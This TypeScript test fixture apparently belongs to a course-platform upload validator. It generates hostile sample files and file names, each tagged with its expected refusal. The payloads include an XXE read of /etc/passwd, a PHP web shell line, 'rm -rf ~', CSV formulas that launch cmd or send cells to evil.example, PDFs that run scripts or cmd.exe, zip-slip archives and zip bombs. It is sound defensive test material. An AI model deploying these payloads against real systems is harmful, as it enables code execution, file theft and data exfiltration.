import { zipSync, type Zippable } from "fflate";
import type { FileRefusal } from "@/lib/domain/course-file";

export type HostileFile = { what: string; name: string; body: Buffer; refusal: FileRefusal };

const text = (value: string): Buffer => Buffer.from(value, "utf8");
const zip = (entries: Record<string, string | Buffer>, options: Parameters<typeof zipSync>[1] = {}): Buffer =>
  Buffer.from(zipSync(Object.fromEntries(Object.entries(entries).map(([name, value]) => [name, typeof value === "string" ? text(value) : new Uint8Array(value)])), options));

const PNG = Buffer.from("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002000001e221bc330000000049454e44ae426082", "hex");
const GIF = Buffer.from("47494638396101000100800000ffffff00000021f90401000000002c00000000010001000002024401003b", "hex");
/** The header of a Windows program, with its second one where the first says. */
const EXE = Buffer.concat([Buffer.from("4d5a", "hex"), Buffer.alloc(0x3a), Buffer.from("40000000", "hex"), Buffer.from("PE\0\0"), Buffer.alloc(200)]);
const ELF = Buffer.concat([Buffer.from("7f454c4602010100", "hex"), Buffer.alloc(120)]);
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
const HTML = "<!doctype html><script>fetch('/api/trpc/identity.me')</script>";
const TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';

/** A PDF of one empty page; `extra` is put among its objects. */
export function pdf(extra = ""): Buffer {
  return text(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${extra}>>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`);
}

/** A Word document; what is given is added to it. */
export function docx(entries: Record<string, string | Buffer> = {}): Buffer {
  return zip({ "[Content_Types].xml": TYPES, "_rels/.rels": "<Relationships/>", "word/document.xml": "<w:document/>", ...entries });
}

/** Changes bytes of every entry's two headers, as whoever forges an archive does. */
function patchHeaders(archive: Buffer, change: (header: Buffer, at: { flags: number; method: number; size: number }) => void): Buffer {
  const copy = Buffer.from(archive);
  for (const [mark, flags] of [["PK\u0003\u0004", 6], ["PK\u0001\u0002", 8]] as const) {
    for (let at = copy.indexOf(mark, 0, "latin1"); at >= 0; at = copy.indexOf(mark, at + 4, "latin1")) change(copy.subarray(at), { flags, method: flags + 2, size: flags + 16 });
  }
  return copy;
}

/** The same central entry twice over the same bytes: each of them unpacks to all of it. */
function overlapping(): Buffer {
  const archive = zip({ "a.txt": Buffer.alloc(50_000, "abcdefgh"), "b.txt": "b" }, { level: 0 });
  const first = archive.indexOf("PK\u0001\u0002", 0, "latin1");
  const second = archive.indexOf("PK\u0001\u0002", first + 4, "latin1");
  const copy = Buffer.from(archive);
  archive.copy(copy, second + 16, first + 16, first + 28);
  archive.copy(copy, second + 42, first + 42, first + 46);
  return copy;
}

function link(): Buffer {
  const files: Zippable = { "notas.txt": [text("/etc/passwd"), { os: 3, attrs: (0o120777 << 16) >>> 0 }] };
  return Buffer.from(zipSync(files));
}

/** Files that must never reach a learner, each with the one reason that its teacher is told. */
export function hostileFiles(): HostileFile[] {
  return [
    { what: "a page called a text", name: "apuntes.txt", body: text(HTML), refusal: "web_page" },
    { what: "a page called a PDF", name: "guia.pdf", body: text(HTML), refusal: "web_page" },
    { what: "a page behind spaces and a byte order mark", name: "guia.md", body: text(`\ufeff \n\t${HTML}`), refusal: "web_page" },
    { what: "a drawing with a script called a picture", name: "logo.png", body: text(SVG), refusal: "web_page" },
    { what: "XML with an entity that reads files", name: "datos.csv", body: text('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'), refusal: "web_page" },
    { what: "a page in UTF-16", name: "guia.txt", body: Buffer.from(`\ufeff${HTML}`, "utf16le"), refusal: "not_text" },
    { what: "a Windows program called a PDF", name: "factura.pdf", body: EXE, refusal: "executable" },
    { what: "a Linux program called a text", name: "leeme.txt", body: ELF, refusal: "executable" },
    { what: "a shell script called a table", name: "notas.csv", body: text("#!/bin/sh\nrm -rf ~\n"), refusal: "executable" },
    { what: "PHP called a picture", name: "foto.jpg", body: text("<?php system($_GET['c']);"), refusal: "executable" },
    { what: "a Java class called a picture", name: "foto.webp", body: Buffer.from("cafebabe00000034", "hex"), refusal: "executable" },
    { what: "a PNG called a JPEG", name: "foto.jpg", body: PNG, refusal: "other_content" },
    { what: "a picture called a PDF", name: "guia.pdf", body: PNG, refusal: "other_content" },
    { what: "a PDF called a text", name: "guia.txt", body: pdf(), refusal: "other_content" },
    { what: "noise called a film", name: "clase.mp4", body: Buffer.alloc(4_000, 7), refusal: "other_content" },
    { what: "a picture with a page behind it", name: "logo.png", body: Buffer.concat([PNG, text(HTML)]), refusal: "polyglot" },
    { what: "a picture with a script in its comment", name: "logo.gif", body: Buffer.concat([GIF, text("/*<ScRiPt>alert(1)</sCrIpT>*/")]), refusal: "polyglot" },
    { what: "a picture that is an archive as well", name: "logo.gif", body: Buffer.concat([GIF, zip({ "a.txt": "a" })]), refusal: "polyglot" },
    { what: "a PDF with a page behind its end", name: "guia.pdf", body: Buffer.concat([pdf(), text(HTML)]), refusal: "polyglot" },
    { what: "a PDF that is an archive as well", name: "guia.pdf", body: Buffer.concat([pdf(), zip({ "a.txt": "a" })]), refusal: "polyglot" },
    { what: "a PDF that runs a script", name: "guia.pdf", body: pdf("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> "), refusal: "active_content" },
    { what: "a PDF that runs a script by another spelling", name: "guia.pdf", body: pdf("/OpenAction << /S /Java#53cript >> "), refusal: "active_content" },
    { what: "a PDF that starts a program", name: "guia.pdf", body: pdf("/OpenAction << /S /Launch /F (cmd.exe) >> "), refusal: "active_content" },
    { what: "a PDF that carries another file", name: "guia.pdf", body: pdf("/Names << /EmbeddedFiles 3 0 R >> "), refusal: "active_content" },
    { what: "a PDF behind a password", name: "guia.pdf", body: pdf("/Encrypt 9 0 R "), refusal: "encrypted" },
    { what: "a PDF that was cut off", name: "guia.pdf", body: pdf().subarray(0, 60), refusal: "damaged" },
    { what: "an archive that leads out of its folder", name: "material.zip", body: zip({ "../../etc/cron.d/x": "x" }), refusal: "archive_name" },
    { what: "an archive with an absolute path", name: "material.zip", body: zip({ "/etc/passwd": "x" }), refusal: "archive_name" },
    { what: "an archive with a Windows path", name: "material.zip", body: zip({ "..\\..\\x.txt": "x" }), refusal: "archive_name" },
    { what: "an archive with a link", name: "material.zip", body: link(), refusal: "archive_name" },
    { what: "an archive behind a password", name: "material.zip", body: patchHeaders(zip({ "a.txt": "abc" }), (header, { flags }) => header.writeUInt16LE(header.readUInt16LE(flags) | 1, flags)), refusal: "encrypted" },
    { what: "an archive that unpacks to a thousand times its size", name: "material.zip", body: zip({ "ceros.txt": Buffer.alloc(40_000_000) }, { level: 9 }), refusal: "archive_bomb" },
    { what: "an archive whose entries overlap", name: "material.zip", body: overlapping(), refusal: "archive_bomb" },
    { what: "an archive in an archive", name: "material.zip", body: zip({ "dentro.zip": zip({ "a.txt": "a" }) }), refusal: "archive_nested" },
    { what: "an archive with a program", name: "material.zip", body: zip({ "instalar.exe": "x" }), refusal: "archive_program" },
    { what: "an archive with a program by another name", name: "material.zip", body: zip({ "datos.dat": EXE }), refusal: "archive_program" },
    { what: "an archive with something in front", name: "material.zip", body: Buffer.concat([text("PK\u0003\u0004 antes "), zip({ "a.txt": "a" })]), refusal: "polyglot" },
    { what: "an archive with something behind", name: "material.zip", body: Buffer.concat([zip({ "a.txt": "a" }), text(HTML)]), refusal: "polyglot" },
    { what: "an archive that was cut off", name: "material.zip", body: zip({ "a.txt": "abcdef" }).subarray(0, 40), refusal: "damaged" },
    { what: "a document with macros", name: "tarea.docx", body: docx({ "word/vbaProject.bin": "x" }), refusal: "macros" },
    { what: "a document that calls itself one with macros", name: "tarea.docx", body: docx({ "[Content_Types].xml": TYPES.replace("wordprocessingml.document.main", "word.document.macroEnabled.main") }), refusal: "macros" },
    { what: "a document with an embedded program", name: "tarea.docx", body: docx({ "word/embeddings/oleObject1.bin": "x" }), refusal: "active_content" },
    { what: "a document that fetches its template from elsewhere", name: "tarea.docx", body: docx({ "word/_rels/settings.xml.rels": '<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>' }), refusal: "active_content" },
    { what: "any archive called a document", name: "tarea.docx", body: zip({ "a.txt": "a" }), refusal: "other_content" },
    { what: "a Word document called a sheet", name: "tarea.xlsx", body: docx(), refusal: "other_content" },
    { what: "an open document with macros", name: "tarea.odt", body: zip({ mimetype: "application/vnd.oasis.opendocument.text", "content.xml": "<a/>", "Basic/Standard/Module1.xml": "x" }), refusal: "macros" },
    { what: "an old Office document by a new name", name: "tarea.docx", body: Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(600)]), refusal: "old_office" },
    { what: "a table that starts a program", name: "notas.csv", body: text("nombre,nota\n=cmd|'/C calc'!A0,5\n"), refusal: "formula" },
    { what: "a table that sends its cells away", name: "notas.csv", body: text('nombre,nota\n"=WEBSERVICE(""https://evil.example/""&A1)",5\n'), refusal: "formula" },
    { what: "a text with a NUL", name: "apuntes.txt", body: Buffer.from("hola\0<script>"), refusal: "not_text" },
    { what: "a text in another encoding", name: "apuntes.txt", body: Buffer.from("a\u00f1o", "latin1"), refusal: "not_text" },
  ];
}

/** Names that are refused before a byte is sent. */
export const HOSTILE_NAMES: readonly (readonly [string, FileRefusal])[] = [
  ["", "name_empty"],
  ["   ", "name_empty"],
  ["factura\u202efdp.exe", "name_direction"],
  ["guia.pdf\0.png", "name_characters"],
  ["../../etc/passwd.txt", "name_characters"],
  ["..\\..\\boot.txt", "name_characters"],
  ["foto.php%00.jpg", "name_characters"],
  ["datos.txt::$DATA", "name_characters"],
  [".htaccess", "name_characters"],
  ["guia.pdf.", "name_characters"],
  ["guia.pdf ", "name_characters"],
  ["nul.txt", "name_reserved"],
  ["COM1.pdf", "name_reserved"],
  ["sin-extension", "name_extension"],
  [`${"a".repeat(300)}.pdf`, "name_too_long"],
  ["curso.exe", "executable"],
  ["curso.PS1", "executable"],
  ["guia.pdf.exe", "executable"],
  ["foto.php.jpg", "double_extension"],
  ["pagina.html.txt", "double_extension"],
  ["pagina.asp;.jpg", "double_extension"],
  ["pagina.html", "web_page"],
  ["logo.svg", "web_page"],
  ["datos.xml", "web_page"],
  ["tarea.docm", "macros"],
  ["tarea.xlsm", "macros"],
  ["tarea.doc", "old_office"],
  ["tarea.rtf", "old_office"],
  ["curso.xyz", "type_unknown"],
];
